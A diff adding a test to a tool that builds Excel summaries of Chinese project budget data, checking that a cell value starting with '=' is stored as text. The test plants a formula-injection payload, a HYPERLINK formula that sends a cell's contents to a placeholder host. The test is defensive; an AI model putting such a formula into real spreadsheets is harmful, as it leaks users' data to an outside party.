@@ -99,6 +99,20 @@ def test_the_workbook_is_laid_out_for_reading_and_printing(seed_workspace: Path)
     assert book.properties.created.isoformat() == "2024-04-01T00:00:00", "评价时间, not the clock"
 
 
+def test_text_that_starts_with_an_equals_sign_stays_text(seed_workspace: Path) -> None:
+    hostile = '=HYPERLINK("http://example.invalid/?d="&E3,"数据系统维护费")'
+    edit(
+        seed_workspace / "data" / "2023" / SEED_UNIT / "01-数据系统维护费.yaml",
+        f"项目名称: {P1}",
+        f"项目名称: '{hostile}'",
+    )
+    book = openpyxl.load_workbook(io.BytesIO(workbook(summarise(seed_workspace)[0])))
+    names = [cell for row in book["全部项目"].iter_rows() for cell in row if cell.value == hostile]
+    assert names and all(cell.data_type == "s" for cell in names), "text, not a formula"
+    unit = book[UNIT_NAME]
+    assert unit["C6"].value == "=SUM(C3:C5)" and unit["C6"].data_type == "f", "totals: formulas"
+
+
 def test_two_summaries_of_the_same_data_are_byte_identical(seed_workspace: Path) -> None:
     first = workbook(summarise(seed_workspace)[0])
     time.sleep(2.1)  # past the zip format's two-second time resolution
